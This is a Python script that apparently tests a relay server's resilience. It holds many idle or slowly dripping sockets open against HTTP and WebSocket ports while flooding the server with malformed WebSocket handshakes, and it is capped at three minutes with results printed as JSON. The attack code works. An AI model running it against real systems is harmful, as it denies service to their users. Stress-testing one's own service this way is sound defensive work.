#!/usr/bin/python3
"""Holds sockets and says nothing, or a byte now and then; and between that, a flood of handshakes that are wrong.

    attacker.py HOST HTTP-PORT WS-PORT SOCKETS

Until SIGTERM, or for three minutes at most; then it prints what it did, as JSON. Attackers bring their own processors. So that what is measured is what the
attack costs the relay, this one runs only on time that nobody else wants (SCHED_IDLE), at a pace: RATE says how much it wants to do a second, and its
figures how much it did.
"""

import json
import os
import select
import signal
import socket
import struct
import sys
import time

TURN_S = 0.05
DIALS, WRONGS = 60, 40  # a turn, at most; dials to each port
RATE = {"dialled": 2 * DIALS / TURN_S, "wrong": WRONGS / TURN_S}  # a second, the first only as long as sockets are wanting
PATIENCE_S = 2
MOST_S = 180  # then it ends by itself; so it does when whoever started it is gone
SLOW = {
    "http": b"POST /callback/ HTTP/1.1\r\nHost: x\r\nContent-Length: 9000\r\nX-Slow: ",
    "ws": b"GET /device HTTP/1.1\r\nHost: x\r\nX-Slow: ",
}
UPGRADE = "GET {} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: {}\r\n" \
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: {}\r\n\r\n"
HELLO = b'{"type":"hello","device":"dev_00000000000000000000000000","token":"wrong wrong wrong wrong wrong wrong","resume":0}'
RIGHT = UPGRADE.format("/device", 13, "coinslot.v1").encode()
WRONG = [
    UPGRADE.format("/nowhere", 13, "coinslot.v1").encode(),
    UPGRADE.format("/device", 13, "chat").encode(),
    UPGRADE.format("/device", 1, "coinslot.v1").encode(),
    b"GET /device HTTP/1.1\r\nHost: x\r\n\r\n",
    os.urandom(300),
    RIGHT + b"\x81\x85\x00\x00\x00\x00{{{{{",
    RIGHT + struct.pack(">BBH4x", 0x81, 0x80 | 126, len(HELLO)) + HELLO,
]


class Attack:
    def __init__(self, host, http, ws, sockets):
        self.ports = {"http": (host, http), "ws": (host, ws)}
        self.share = {"http": sockets // 2, "ws": sockets - sockets // 2}
        self.held = {"http": {}, "ws": {}}  # fd: (socket, whether it drips)
        self.poll = select.poll()
        self.counts = {"dialled": 0, "ended": 0, "wrong": 0, "turned_away": 0, "most_held": 0}
        self.going = True

    def dial(self, kind):
        connection = socket.socket()
        connection.settimeout(PATIENCE_S)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # leaves nothing in TIME_WAIT
        try:
            connection.connect(self.ports[kind])
        except OSError:
            connection.close()
            raise
        return connection

    def hold(self, kind):
        for _ in range(min(DIALS, self.share[kind] - len(self.held[kind]))):
            connection = self.dial(kind)
            drips = self.counts["dialled"] % 2 == 0
            self.counts["dialled"] += 1
            if drips:
                connection.send(SLOW[kind])
            connection.setblocking(False)
            self.held[kind][connection.fileno()] = (connection, drips)
            self.poll.register(connection, select.POLLIN | select.POLLHUP)

    def drop_ended(self):
        for fd, _ in self.poll.poll(0):
            self.poll.unregister(fd)
            for held in self.held.values():
                if fd in held:
                    held.pop(fd)[0].close()
                    self.counts["ended"] += 1

    def drip(self):
        for held in self.held.values():
            for connection, drips in list(held.values()):
                if drips:
                    try:
                        connection.send(b"a")
                    except OSError:
                        pass

    def be_wrong(self):
        for _ in range(WRONGS):
            self.counts["wrong"] += 1
            try:
                with self.dial("ws") as connection:
                    connection.sendall(WRONG[self.counts["wrong"] % len(WRONG)])
                    if not connection.recv(4096):
                        self.counts["turned_away"] += 1
            except OSError:
                self.counts["turned_away"] += 1

    def run(self):
        dripped = began = time.monotonic()
        parent = os.getppid()
        while self.going and time.monotonic() - began < MOST_S and os.getppid() == parent:
            turn = time.monotonic()
            try:
                self.hold("http")
                self.hold("ws")
            except OSError:
                pass
            self.counts["most_held"] = max(self.counts["most_held"], sum(map(len, self.held.values())))
            if time.monotonic() - dripped > 1:
                dripped = time.monotonic()
                self.drip()
            self.drop_ended()
            self.be_wrong()
            time.sleep(max(0, turn + TURN_S - time.monotonic()))
        self.counts["seconds"] = time.monotonic() - began


def main():
    host, http, ws, sockets = sys.argv[1], *map(int, sys.argv[2:5])
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = Attack(host, http, ws, sockets)

    def stop(*_):
        attack.going = False

    signal.signal(signal.SIGTERM, stop)
    attack.run()
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    main()
